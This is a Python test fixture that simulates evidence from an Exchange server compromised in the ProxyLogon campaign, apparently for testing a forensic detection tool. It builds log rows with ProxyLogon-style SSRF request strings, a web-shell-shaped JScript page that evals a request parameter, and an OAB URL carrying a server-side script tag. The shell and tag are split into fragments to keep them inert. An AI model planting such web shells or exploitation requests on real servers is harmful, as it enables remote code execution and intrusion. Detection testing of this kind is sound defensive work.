"""A pretend Exchange server's evidence, row by row, for tests of the whole. Everything that an antivirus acts on is joined
at run time and inert. Shares no code with readers, detectors or the simulator."""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from datetime import UTC, datetime, timedelta

from exhume.assess.run import Options, assess_opened
from exhume.evidence import from_memory
from exhume.model import AllowEntry, Answer, Assessment, Pack, Window

V15 = "C/Program Files/Microsoft/Exchange Server/V15/"
AUTH = V15 + "FrontEnd/HttpProxy/owa/auth/"
CLIENT = "C/inetpub/wwwroot/aspnet_client/"
ATTACKER = "203.0.113.50"
"""An address of the documentation block: on no list of indicators."""
SINCE, UNTIL = datetime(2021, 3, 1, tzinfo=UTC), datetime(2021, 3, 4, 23, 50, tzinfo=UTC)
PERIOD = Window(SINCE.date(), UNTIL.date())
NOON = datetime(2021, 3, 3, 12, 0, tzinfo=UTC)
SESSION = "ServerInfo~a]@ex01.contoso.test:444/ecp/proxyLogon.ecp?a=~1942062522#"
SID = "ServerInfo~a]@ex01.contoso.test:444/mapi/emsmdb/?MailboxId=x@contoso.test&a=~1942062522#"
MAIL = "ServerInfo~a]@ex01.contoso.test:444/EWS/Exchange.asmx?a=~1942062522#"
FIELDS = "date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken"
PROXY = (
    "DateTime,RequestId,Protocol,UrlStem,ProtocolAction,AuthenticatedUser,AnchorMailbox,UserAgent,ClientIpAddress,"
    "ServerHostName,HttpStatus,Method,RequestBytes,ResponseBytes"
)


def shell(kind: str = "eval") -> bytes:
    """An inert page that has the form of a web shell: it is a comment's worth of text, and no server runs it."""
    ask = "Requ" + 'est["x"]'
    begin = "<" + "%"
    return f'{begin}@ Page Language="JScript"%>\r\n{begin}{"ev" + "al"}({ask},"{kind}");%>\r\n'.encode()


def oab_dump(url: str) -> bytes:
    """What resetting an OAB virtual directory writes to disk, with this ExternalUrl."""
    rows = {"Name": "OAB (Default Web Site)", "PollInterval": "480", "OfflineAddressBooks": "", "RequireSSL": "True"}
    rows |= {
        "BasicAuthentication": "False",
        "Server": "EX01",
        "InternalUrl": "https://ex01.contoso.test/OAB",
        "ExternalUrl": url,
    }
    return "".join(
        f"{name:<32}: {value}\r\n" for name, value in (rows | {"WhenChanged": "3/3/2021 6:50:02 AM"}).items()
    ).encode()


def tag() -> str:
    """The start of the script tag that makes an OAB URL a page."""
    return "http://f/<scr" + 'ipt language="JScript" run' + 'at="server">function x(){}</scr' + "ipt>"


def hours(first: datetime, last: datetime) -> Iterator[datetime]:
    while first <= last:
        yield first
        first += timedelta(hours=1)


class Server:
    """Evidence that grows by one call a row. A fresh one is quiet and covers ``SINCE`` to ``UNTIL``."""

    def __init__(
        self, first: datetime | None = SINCE, last: datetime = UNTIL, name: str = "EX01", folders: bool = True
    ) -> None:
        self.name = name
        self.prefix = ""
        self._iis: dict[str, list[tuple[datetime, str]]] = {}
        self._proxy: list[tuple[datetime, str]] = []
        self._ecp: list[tuple[datetime, str]] = []
        self.files: dict[str, bytes] = {}
        if folders:
            self.files |= {AUTH + "logo.png": b"\x89PNG\r\n", CLIENT + "readme.txt": b"nothing here\r\n"}
        for hour in hours(first, last) if first else ():
            self.iis(hour, "GET", "/owa/healthcheck.htm", ip="10.0.0.9")
            self.iis(hour, "GET", "/ecp/healthcheck.htm", ip="10.0.0.9", site="W3SVC2", port=444)
            self.proxy(hour, "", 200, stem="/ecp/exhealth.check", ip="10.0.0.9", method="GET")
            self.ecp(hour, "Get-Mailbox", "/ecp/DDI/DDIService.svc")

    def iis(self, at: datetime, method: str, stem: str, status: int = 200, ip: str = ATTACKER, **more: object) -> Server:
        site, port, agent = more.get("site", "W3SVC1"), more.get("port", 443), more.get("agent", "Mozilla/5.0")
        query = more.get("query", "-")
        row = f"{at:%Y-%m-%d %H:%M:%S} 10.0.0.1 {method} {stem} {query} {port} - {ip} {agent} - {status} 0 0 15"
        self._iis.setdefault(str(site), []).append((at, row))
        return self

    def proxy(
        self,
        at: datetime,
        anchor: str,
        status: int,
        stem: str = "/ecp/y.js",
        ip: str = ATTACKER,
        method: str = "POST",
        size: int = 5000,
    ) -> Server:
        number = f"{len(self._proxy):08d}-0000-4000-8000-000000000000"
        agent = "python-requests/2.25.1" if anchor else "Mozilla/5.0"
        row = (
            f"{at:%Y-%m-%dT%H:%M:%S.000Z},{number},Ecp,{stem},,,{anchor},{agent},{ip},{self.name},{status},{method},500,{size}"
        )
        self._proxy.append((at, row))
        return self

    def ecp(self, at: datetime, command: str, url: str, error: str = "") -> Server:
        pairs = f"S:TIME=812;'S:CMD={command.replace(chr(39), chr(39) * 2)}';S:URL={url}" + (f";S:EX={error}" if error else "")
        quoted = pairs.replace('"', '""')
        self._ecp.append((at, f'{at:%Y-%m-%dT%H:%M:%S.000Z},{self.name},ECP.Request,"{quoted}"'))
        return self

    def file(self, path: str, content: bytes) -> Server:
        self.files[path] = content
        return self

    def without(self, *kinds: str) -> Server:
        """Takes logs out again: ``iis``, ``proxy``, ``ecp``."""
        for kind in kinds:
            getattr(self, f"_{kind}").clear()
        return self

    def content(self) -> dict[str, bytes]:
        """Path → bytes, one log file a day as the server writes them."""
        out = {f"{self.prefix}{path}": data for path, data in self.files.items()}
        for site, rows in self._iis.items():
            head = f"#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n#Fields: {FIELDS}\r\n"
            for day, text in daily(rows).items():
                out[f"{self.prefix}C/inetpub/logs/LogFiles/{site}/u_ex{day:%y%m%d}.log"] = (head + text).encode()
        software = "#Software: Microsoft Exchange Server\r\n#Version: 15.01.1713.005\r\n#Log-type: "
        for day, text in daily(self._proxy).items():
            head = f"{software}HttpProxy Logs\r\n#Date: {day:%Y-%m-%d}T00:00:00.000Z\r\n#Fields: {PROXY}\r\n"
            out[f"{self.prefix}{V15}Logging/HttpProxy/Ecp/HttpProxy_{day:%Y%m%d}00-1.LOG"] = (head + text).encode()
        for day, text in daily(self._ecp).items():
            head = f"{software}ECP Server Log\r\n#Date: {day:%Y-%m-%d}T00:00:00.000Z\r\n#Fields: TimeStamp,ServerName,EventId,EventData\r\n"
            out[f"{self.prefix}{V15}Logging/ECP/Server/ECPServer{day:%Y%m%d}-1.LOG"] = (head + text).encode()
        return out


def daily(rows: list[tuple[datetime, str]]) -> dict[datetime, str]:
    days: dict[datetime, list[str]] = {}
    for at, row in sorted(rows, key=lambda pair: pair[0]):
        days.setdefault(at.replace(hour=0, minute=0, second=0), []).append(row)
    return {day: "\r\n".join(texts) + "\r\n" for day, texts in days.items()}


def assessed(
    content: Server | Mapping[str, bytes],
    period: Window | None = PERIOD,
    packs: tuple[Pack, ...] = (),
    allow: tuple[AllowEntry, ...] = (),
    **options: object,
) -> Assessment:
    """The whole pipeline over evidence in memory."""
    bytes_of = content.content() if isinstance(content, Server) else content
    chosen = Options(period=period, allow=allow, jobs=1, **options)
    return assess_opened(from_memory(bytes_of), packs, chosen)


def on(campaign: str, result: Assessment) -> Answer:
    (answer,) = (a for a in result.answers if a.campaign == campaign)
    return answer


def traces(result: Assessment) -> set[str]:
    return {f.trace or f.rule for f in result.singles}
